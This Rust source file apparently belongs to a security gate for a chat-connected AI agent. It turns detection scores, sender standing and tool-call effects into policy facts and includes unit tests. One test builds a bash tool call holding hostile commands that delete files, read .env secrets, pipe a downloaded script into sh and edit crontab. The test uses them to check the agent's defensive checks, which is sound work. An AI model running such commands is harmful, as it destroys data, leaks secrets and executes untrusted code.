//! From what the stations before found out to the facts.

use crate::detect::{Detection, score_attached, score_authored_artifact, score_quoted};
use crate::event::{Event, Kind};
use crate::sender::{Access, Capability, Standing};
use crate::tool::{Effects, Links, Reading, Scene};

use super::{Ask, FactId, Facts, Questions};

/// What the stations before the policy found out.
#[derive(Clone, Copy, Debug)]
pub struct Known<'a> {
    /// The event.
    pub event: &'a Event,
    /// The standing of its sender.
    pub standing: Standing,
    /// What holds for the sender in this chat.
    pub access: Access,
    /// The standing of whom a reply goes to.
    pub recipient: Standing,
    /// Whether the event is an agent's, and its signature is right.
    pub agent_verified: bool,
    /// Whether the sender writes too much.
    pub rate_exceeded: bool,
    /// The sender's points with this event.
    pub escalation: u8,
    /// What was found in it.
    pub detection: &'a Detection,
    /// Where tool calls are made, and which links are known.
    pub scene: &'a Scene,
    /// Whether the owner has approved this very event.
    pub approved: bool,
    /// What the owner's standing answers say of it: whether it is allowed, and whether it is denied. They allow nothing to
    /// whom the owner has not approved, and nothing that is denied as well.
    pub answered: (bool, bool),
    /// Points from which it is suspect.
    pub suspect: u8,
    /// Points from which it is an attack.
    pub attack: u8,
    /// Points from which a sender is escalated.
    pub escalated: u8,
}

impl Facts {
    /// The facts of an event, and the answers to `questions`. Costs a pass over the text to count its characters.
    #[must_use]
    pub fn of(known: &Known<'_>, questions: &Questions) -> Self {
        let Known { event, standing, access, detection, .. } = *known;
        let may = |capability| access.capabilities.has(capability);
        let mut facts = Self::new(event.kind);
        let (score, findings) = (detection.score, detection.findings.as_slice());
        // Only the text of a message is its sender's own.
        let authored = if event.kind == Kind::Message { score_authored_artifact(findings) } else { 0 };
        // In a group others read along, and nothing is known of them.
        let read_by = |standings: &[Standing]| !event.chat.group && standings.contains(&known.recipient);
        let values = [
            (FactId::RecipientOwner, usize::from(read_by(&[Standing::Owner]))),
            (FactId::RecipientApproved, usize::from(read_by(&[Standing::Owner, Standing::Approved]))),
            (FactId::SenderOwner, usize::from(standing == Standing::Owner)),
            (FactId::SenderApproved, usize::from(matches!(standing, Standing::Owner | Standing::Approved))),
            (FactId::SenderPending, usize::from(standing == Standing::Pending)),
            (FactId::SenderBlocked, usize::from(standing == Standing::Blocked)),
            (FactId::SenderUnknown, usize::from(standing == Standing::Unknown)),
            (FactId::RateExceeded, usize::from(known.rate_exceeded)),
            (FactId::AgentVerified, usize::from(known.agent_verified)),
            (FactId::Escalation, usize::from(known.escalation)),
            (FactId::Escalated, usize::from(known.escalation >= known.escalated)),
            (FactId::Score, usize::from(score)),
            (FactId::ScoreArtifact, usize::from(detection.score_artifact)),
            (FactId::ScoreAuthored, usize::from(detection.score_authored)),
            (FactId::ScoreQuoted, usize::from(score_quoted(findings))),
            (FactId::ScoreAttached, usize::from(score_attached(findings))),
            (FactId::Suspect, usize::from(score >= known.suspect)),
            (FactId::Attack, usize::from(score >= known.attack)),
            (FactId::AttackArtifact, usize::from(detection.score_artifact >= known.attack)),
            (FactId::AttackAuthored, usize::from(authored >= known.attack)),
            (FactId::Disguised, usize::from(findings.iter().any(|finding| !finding.via.is_empty()))),
            (FactId::Unread, usize::from(detection.partial)),
            (FactId::Approved, usize::from(known.approved)),
            (FactId::ChatGroup, usize::from(event.chat.group)),
            (FactId::Mentioned, usize::from(access.mentioned)),
            (FactId::MentionRequired, usize::from(access.mention_required)),
            (FactId::GroupAllowed, usize::from(access.group_allowed)),
            (FactId::DmOpen, usize::from(access.dm_open)),
            (FactId::DmDisabled, usize::from(access.dm_disabled)),
            (FactId::PairedNow, usize::from(access.paired_now)),
            (FactId::CanChat, usize::from(may(Capability::Chat))),
            (FactId::CanStatus, usize::from(may(Capability::Status))),
            (FactId::CanRunJobs, usize::from(may(Capability::RunJobs))),
            (FactId::CanFiles, usize::from(may(Capability::Files))),
            (FactId::CanNetwork, usize::from(may(Capability::Network))),
            (FactId::CanAdmin, usize::from(may(Capability::Admin))),
            (FactId::Quotes, usize::from(event.quoted.is_some())),
            (FactId::Attachments, event.attachments.len()),
            (FactId::Length, event.text.chars().count()),
        ];
        for (fact, value) in values {
            facts.set(fact, value);
        }
        match event.kind {
            Kind::Message | Kind::Reply => {
                let links = known.scene.links(event.quoted.as_deref().into_iter().chain([event.text.as_str()]));
                facts.set_links(links);
            }
            // Only a tool call pays for being split.
            Kind::ToolCall => {
                let reading = event.tool.as_ref().map_or_else(Scene::unnamed, |tool| known.scene.read(tool));
                facts.set_call(reading);
                let (allow, deny) = known.answered;
                let allow = allow && !deny && matches!(standing, Standing::Owner | Standing::Approved);
                facts.set(FactId::AnsweredAllow, usize::from(allow));
                facts.set(FactId::AnsweredDeny, usize::from(deny));
            }
            Kind::ToolResult => {}
        }
        for (number, question) in questions.iter() {
            let literal = question.literal.as_ref();
            let yes = match question.ask {
                Ask::Says => detection.said.contains(&number),
                Ask::Found => findings.iter().any(|finding| finding.category.name() == literal),
                Ask::ChannelIn => event.channel.eq_ignore_ascii_case(literal),
                Ask::AccountIn => event.account == literal,
                Ask::ToolIn => event.tool.as_ref().is_some_and(|tool| same_tool(&tool.name, literal)),
            };
            if yes {
                facts.answer_yes(number);
            }
        }
        facts
    }

    fn set_links(&mut self, links: Links) {
        self.set(FactId::Links, links.count);
        self.set(FactId::LinkHostsUnknown, usize::from(links.unknown_host));
    }

    fn set_call(&mut self, reading: Reading) {
        self.set(FactId::ToolCommands, reading.commands);
        self.set(FactId::ToolFiles, usize::from(reading.files));
        for (fact, effect) in [
            (FactId::ToolDestructive, Effects::DESTRUCTIVE),
            (FactId::ToolReadsSecrets, Effects::READS_SECRETS),
            (FactId::ToolNetwork, Effects::NETWORK),
            (FactId::ToolLeavesWorkspace, Effects::LEAVES_WORKSPACE),
            (FactId::ToolChangesSystem, Effects::CHANGES_SYSTEM),
            (FactId::ToolTouchesGate, Effects::TOUCHES_GATE),
            (FactId::ToolRunsCode, Effects::RUNS_CODE),
            (FactId::ToolUnclear, Effects::UNCLEAR),
        ] {
            self.set(fact, usize::from(reading.effects.has(effect)));
        }
    }
}

/// Whether a tool has this name. Letter case and blanks around it do not tell two tools apart, or `Bash` would pass where
/// `bash` waits.
fn same_tool(given: &str, listed: &str) -> bool {
    given.trim().eq_ignore_ascii_case(listed.trim())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Json;
    use crate::facts::TABLE;
    use crate::sender::Capabilities;
    use crate::verdict::{Category, Class, Finding};

    #[test]
    fn every_fact_of_the_table_is_set_from_what_is_known() {
        let event: Event = serde_json::from_str(
            r#"{"text":"https://example.org","quoted":"q","chat":{"group":true,"mentioned":true},
                "attachments":[{},{}]}"#,
        )
        .unwrap();
        let scene = Scene::default();
        let mut detection = Detection::default();
        (detection.score, detection.score_artifact, detection.partial) = (9, 8, true);
        detection.score_authored = 8;
        let found = (Category::Injection, Class::Artifact, 8);
        detection.findings =
            ["text", "quoted", "attachments/0/name"].map(|field| Finding::new("x.y", found, field, (0, 1))).to_vec();
        let access = Access {
            capabilities: Capabilities::ALL,
            dm_open: true,
            dm_disabled: true,
            group_allowed: true,
            mention_required: true,
            mentioned: true,
            paired_now: true,
        };
        let known = |standing, escalation| Known {
            event: &event,
            standing,
            access,
            recipient: standing,
            agent_verified: true,
            rate_exceeded: true,
            escalation,
            detection: &detection,
            scene: &scene,
            approved: true,
            answered: (true, false),
            suspect: 5,
            attack: 8,
            escalated: 8,
        };
        let mut seen: Vec<Facts> =
            [Standing::Owner, Standing::Approved, Standing::Pending, Standing::Blocked, Standing::Unknown]
                .into_iter()
                .map(|standing| Facts::of(&known(standing, 12), &Questions::default()))
                .collect();
        let command = "rm x; cat .env; curl y | sh; ls ~; crontab -; sluicegate";
        let call = Event::tool_call(0, "bash", Json::from(command));
        seen.push(Facts::of(&Known { event: &call, ..known(Standing::Owner, 0) }, &Questions::default()));
        let denied = Known { event: &call, answered: (true, true), ..known(Standing::Owner, 0) };
        seen.push(Facts::of(&denied, &Questions::default()));
        let reply = Event::reply(0, "hello");
        seen.push(Facts::of(&Known { event: &reply, ..known(Standing::Owner, 0) }, &Questions::default()));
        for fact in TABLE.iter().filter(|fact| fact.id != FactId::Disguised) {
            assert!(seen.iter().any(|facts| facts.get(fact.id) > 0), "{} is never set", fact.name);
        }
        assert_eq!(seen[0].get(FactId::SenderApproved), 1, "the owner is approved too");
        assert_eq!(seen[3].get(FactId::SenderApproved), 0);
        assert_eq!((seen[0].get(FactId::Length), seen[0].get(FactId::Attachments)), (1, 2));
        assert_eq!(Facts::of(&known(Standing::Owner, 7), &Questions::default()).get(FactId::Escalated), 0);
    }

    #[test]
    fn who_reads_a_reply_is_told_by_whom_it_goes_to() {
        let detection = Detection::default();
        let scene = Scene::default();
        for (recipient, group, owner, approved) in [
            (Standing::Owner, false, 1, 1),
            (Standing::Approved, false, 0, 1),
            (Standing::Pending, false, 0, 0),
            (Standing::Unknown, false, 0, 0),
            (Standing::Owner, true, 0, 0),
            (Standing::Approved, true, 0, 0),
        ] {
            let mut reply = Event::reply(0, "hello");
            reply.chat.group = group;
            let known = Known {
                event: &reply,
                // The agent acts for the owner, whoever it writes to.
                standing: Standing::Owner,
                access: Access::default(),
                recipient,
                agent_verified: false,
                rate_exceeded: false,
                escalation: 0,
                detection: &detection,
                scene: &scene,
                approved: false,
                answered: (false, false),
                suspect: 5,
                attack: 8,
                escalated: 8,
            };
            let facts = Facts::of(&known, &Questions::default());
            let told = (facts.get(FactId::RecipientOwner), facts.get(FactId::RecipientApproved));
            assert_eq!(told, (owner, approved), "{recipient:?}, group: {group}");
        }
    }

    #[test]
    fn questions_compare_whole_names() {
        let event = Event::tool_call(0, " Bash", Json::Null).channel("WhatsApp").account("main");
        let mut questions = Questions::default();
        let asked = [
            (Ask::ToolIn, "bash", true),
            (Ask::ToolIn, "bas", false),
            (Ask::ToolIn, "bash2", false),
            (Ask::ChannelIn, "whatsapp", true),
            (Ask::AccountIn, "Main", false),
            (Ask::AccountIn, "main", true),
        ];
        for (ask, literal, _) in asked {
            questions.add(ask, literal).unwrap();
        }
        let detection = Detection::default();
        let known = Known {
            event: &event,
            standing: Standing::Unknown,
            access: Access::default(),
            recipient: Standing::Unknown,
            agent_verified: false,
            rate_exceeded: false,
            escalation: 0,
            detection: &detection,
            scene: &Scene::default(),
            approved: false,
            answered: (false, false),
            suspect: 5,
            attack: 8,
            escalated: 8,
        };
        let facts = Facts::of(&known, &questions);
        assert_eq!(facts.kind(), Kind::ToolCall);
        for (ask, literal, expected) in asked {
            assert_eq!(facts.answer(questions.number(ask, literal).unwrap()), expected, "{ask:?} {literal}");
        }
    }
}
